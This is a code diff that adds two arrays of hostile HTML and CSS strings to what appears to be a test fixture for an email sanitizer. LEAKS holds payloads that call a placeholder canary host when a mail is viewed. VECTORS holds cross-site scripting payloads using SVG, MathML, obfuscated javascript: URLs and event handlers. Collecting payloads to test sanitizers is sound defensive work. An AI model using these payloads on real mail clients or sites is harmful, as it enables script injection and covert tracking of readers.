@@ -148,6 +148,68 @@ const MUTATIONS: readonly string[] = [
   '<plaintext><script>hit()</script>',
 ];
 
+/** What a mail would tell somebody elsewhere by being looked at: by selectors, imports, fonts, conditions, and rarer ways to name an address. */
+const LEAKS: readonly string[] = [
+  '<style>p[title^="a"]{background:url(__CANARY__/a1)}p[title$="z" i]{list-style-image:url("__CANARY__/a2")}</style><p title=az>x',
+  '<style>:has(td:nth-child(2)){border-image:url(__CANARY__/has) 1}</style><table><td>1<td>2</table>',
+  '<style>@import/**/"__CANARY__/i3.css" layer(a) supports(display:grid) screen;</style>',
+  '<style>@\\69mport url("//canary.example/i4.css");</style>',
+  '<style>@font-face{font-family:leak;src:url(__CANARY__/A.woff2);unicode-range:U+41}p{font-family:leak}</style><p>A',
+  '<style>@media (prefers-color-scheme:dark),(min-width:1px){body{background:url(__CANARY__/media)}}</style>',
+  '<style>@supports (display:grid){@container (width>0){p{content:url(__CANARY__/container)}}}</style><p>x',
+  '<style>@namespace x url(__CANARY__/ns);@property --p{syntax:"<url>";inherits:false;initial-value:url(__CANARY__/prop)}</style>',
+  '<style>li{list-style-image:url("javascript:hit()")}</style><ul><li>x</ul>',
+  '<style media="all and (x:url(__CANARY__/m))">p{cursor:url(__CANARY__/cursor),auto}p::before{content:url(__CANARY__/before)}</style><p>x',
+  '<style>p{background:-webkit-cross-fade(url(__CANARY__/c1),url(__CANARY__/c2),50%)}</style><p>x',
+  '<p style="background:cross-fade(url(__CANARY__/c3),#fff);shape-outside:url(__CANARY__/shape);offset-path:url(__CANARY__/path#a)">x</p>',
+  '<p style="background:\\75\\72\\6c\\28 __CANARY__/escaped\\29">x</p>',
+  '<p style="background:url&#40;__CANARY__/entity&#41;;border-image-source:URL(  \'__CANARY__/upper\'  )">x</p>',
+  '<p style="animation:x 1s;transition:all 1s" onanimationend=hit() ontransitionend=hit()>x</p>',
+  '<link rel="preload" as="image" imagesrcset="__CANARY__/pre.png 1x"><link rel=modulepreload href=__CANARY__/mod.js>',
+  '<link rel=preconnect href=__CANARY__/><link rel=manifest href=__CANARY__/app.json><link rel=alternate href=__CANARY__/feed>',
+  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["__CANARY__/spec"]}]}</script>',
+  '<script type=importmap>{"imports":{"a":"__CANARY__/map.js"}}</script>',
+  '<bgsound src="__CANARY__/sound.mid"><layer src="__CANARY__/layer.html"></layer>',
+  '<video><track default kind=captions src="__CANARY__/t.vtt"></video>',
+  '<img src="__CANARY__/lazy.gif" loading=eager fetchpriority=high decoding=sync style="display:none">',
+  '<img src="\\\\canary.example\\share\\pixel.gif"><img src="https:canary.example/no-slashes.gif">',
+  '<img src=" \n https://canary.example/blank.gif"><img src="&#104;ttps://canary.example/entity.gif">',
+  '<img src="http://0x7f.1/number.gif"><img src="ftp://canary.example/f.gif">',
+  '<blockquote cite="__CANARY__/cite">x</blockquote><q cite=__CANARY__/q>x</q><del cite=__CANARY__/d>x</del>',
+  '<p itemscope itemtype=__CANARY__/type itemid=__CANARY__/id>x</p><html manifest=__CANARY__/m.appcache>',
+  '<fencedframe src=__CANARY__/fenced></fencedframe><iframe loading=eager src=//canary.example/frame2></iframe>',
+  '<meta name=referrer content=unsafe-url><meta http-equiv="Content-Security-Policy" content="report-uri __CANARY__/report">',
+  '<meta http-equiv="Link" content="<__CANARY__/l.css>; rel=stylesheet"><meta http-equiv=content-type content="text/html; charset=utf-7">',
+];
+
+/** SVG, MathML and shadow trees, and handlers of newer elements. */
+const VECTORS: readonly string[] = [
+  '<svg><style>@import url(__CANARY__/svg.css);path{fill:url(__CANARY__/fill.svg#a)}</style><path d="M0 0h1"/></svg>',
+  '<svg><filter id=f><feImage href="__CANARY__/fe.png"/></filter><rect filter="url(__CANARY__/fx.svg#a)" width=9 height=9 /></svg>',
+  '<svg><use href="data:image/svg+xml,%3Csvg id=x xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hit()%22/%3E#x"/></svg>',
+  '<svg><set attributeName=onmouseover to=hit() /><discard onbegin=hit() /></svg>',
+  '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a><handler type=text/javascript>hit()</handler></svg>',
+  '<svg><image xlink:href="__CANARY__/xlink.png" onerror=hit() /><pattern id=p><image href=__CANARY__/pattern.png /></pattern></svg>',
+  '<svg><foreignObject><body onload=hit()><img src=x onerror=hit()></foreignObject></svg>',
+  '<svg><title><img src=x onerror=hit()></title><desc><style><img src=x onerror=hit()></style></desc></svg>',
+  '<svg xmlns="http://www.w3.org/2000/svg"><![CDATA[><img src=x onerror=hit()>]]></svg>',
+  '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iaGl0KCkiLz4=">',
+  '<math><annotation-xml encoding="text/html"><script>hit()</script><img src=x onerror=hit()></annotation-xml></math>',
+  '<math><style><img src=x onerror=hit()></style></math><mstyle><a xlink:href=javascript:hit()>x</a></mstyle>',
+  '<div><template shadowrootmode=open><style>@import "__CANARY__/shadow.css"</style><img src=__CANARY__/shadow.gif></template></div>',
+  '<div popover id=pop onbeforetoggle=hit()>x</div><button popovertarget=pop autofocus onfocus=hit()>x</button>',
+  '<p style="content-visibility:auto" oncontentvisibilityautostatechange=hit()>x</p><body onscroll=hit() onhashchange=hit() onpageshow=hit()>',
+  '<input type=hidden accesskey=x onclick=hit()><label onclick=hit() for=y>x</label><meter onmouseenter=hit()>x</meter>',
+  '<xml id=i><x><c><![CDATA[<img src="javascript:hit()">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>',
+  '<scr\u0000ipt>hit()</scr\u0000ipt><\u0000script>hit()</script>',
+  '<a href="\u0001javascript:hit()">x</a><a href="java\u0000script:hit()">x</a><a href="\u00a0javascript:hit()">x</a>',
+  '<a href="javascript&colon;hit()">x</a><a href="javascript&#58;hit()">x</a><a href="&Tab;javascript&NewLine;:hit()">x</a>',
+  '<a href="livescript:hit()">x</a><a href="feed:javascript:hit()">x</a><a href="view-source:__CANARY__/">x</a>',
+  '<img src=x:x onerror\u000b=hit()><img src=x onerror\u00a0=hit()><img/ /src=x//onerror=hit()>',
+  '<img src=x onerror="hit`1`"><img src=x ONERROR=hit()><img src=x onerror=hit() onerror=x>',
+  `<p ${'a'.repeat(5_000)}=1 onclick=hit()>x</p>`,
+];
+
 export const HOSTILE_HTML: readonly string[] = [
   ...TAGS,
   ...HANDLERS,
@@ -155,6 +217,8 @@ export const HOSTILE_HTML: readonly string[] = [
   ...PICTURES,
   ...STYLES,
   ...MUTATIONS,
+  ...LEAKS,
+  ...VECTORS,
 ].map((vector) => vector.replaceAll('__CANARY__', EVIL));
 
 export const HARMLESS_PICTURE = `<img src="data:image/png;base64,${png}" alt="a dot">`;
